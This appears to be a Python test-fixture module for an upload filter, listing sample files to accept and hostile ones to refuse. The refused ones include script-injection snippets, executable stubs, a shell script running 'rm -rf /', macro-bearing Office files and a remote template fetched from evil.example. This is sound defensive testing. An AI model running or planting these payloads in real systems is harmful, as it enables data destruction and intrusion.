"""Small files of every kind that clients hand over, and of kinds that they should not."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping

PDF = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(17) + b"\x00\x00\x00\x00IEND\xaeB`\x82"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(20) + b"\xff\xd9"
_TYPES = "[Content_Types].xml"
MAIN_PARTS = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}


def package(parts: Mapping[str, bytes]) -> bytes:
    """A zip file."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in parts.items():
            made.writestr(name, data)
    return file.getvalue()


def office_document(ending: str, types: bytes = b"<Types/>", **parts: bytes) -> bytes:
    """A document of an office program, with further parts."""
    return package({_TYPES: types, MAIN_PARTS[ending]: b"<x/>", **parts})


#: Content by the name under which it is sent; every one of them is taken.
GOOD: Mapping[str, bytes] = {
    "Бриф.pdf": PDF,
    "logo.png": PNG,
    "фото склада.jpeg": JPEG,
    "Договор.docx": office_document("docx"),
    "Прайс.xlsx": office_document("xlsx"),
    "Показ.pptx": office_document("pptx", **{"ppt/embeddings/t.xlsx": b"x"}),
    "заметки.txt": "\ufeffТекст\r\nвторая строка\t1".encode(),
    "список.csv": "код;цена\r\nА-1;=1+1\r\n".encode(),
}

#: The same of files that are refused, with the end of the code of the sentence.
BAD: Mapping[str, tuple[bytes, str]] = {
    "empty.pdf": (b"", "empty"),
    "page.html": (b"<!doctype html><script>alert(1)</script>", "kind"),
    "page.txt": (b"\n <html><script>alert(1)</script>", "kind"),
    "drawing.svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "kind"),
    "drawing.csv": (b"\xef\xbb\xbf<svg onload=alert(1)>", "kind"),
    "script.js": (b"alert(1)", "kind"),
    "program.pdf": (b"MZ\x90\x00" + bytes(100), "kind"),
    "program.txt": (b"MZ\x90\x00" + bytes(100), "kind"),
    "run.sh": (b"#!/bin/sh\nrm -rf /\n", "kind"),
    "windows.csv": ("код;цена".encode("cp1251"), "kind"),
    "late.pdf": (b"<script></script>%PDF-1.7", "kind"),
    "archive.zip": (package({"a.exe": b"MZ"}), "kind"),
    "archive.docx": (package({"a.exe": b"MZ"}), "kind"),
    "two.docx": (office_document("docx", **{"xl/workbook.xml": b"x"}), "kind"),
    "cut.docx": (office_document("docx")[:60], "kind"),
    "bomb.docx": (office_document("docx", bytes(5_000_000)), "kind"),
    "old.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "kind"),
    "macro.docx": (office_document("docx", **{"word/vbaProject.bin": b"x"}), "active"),
    "macro2.xlsx": (office_document("xlsx", b'<Override ContentType="x.macroEnabled.main+xml"/>'), "active"),
    "activex.pptx": (office_document("pptx", **{"ppt/activeX/activeX1.xml": b"x"}), "active"),
    "package.docx": (office_document("docx", **{"word/embeddings/oleObject1.bin": b"x"}), "active"),
    "template.docx": (
        office_document(
            "docx",
            **{
                "word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                b'Target="https://evil.example/a.dotm" TargetMode="External"/>'
            },
        ),
        "active",
    ),
}
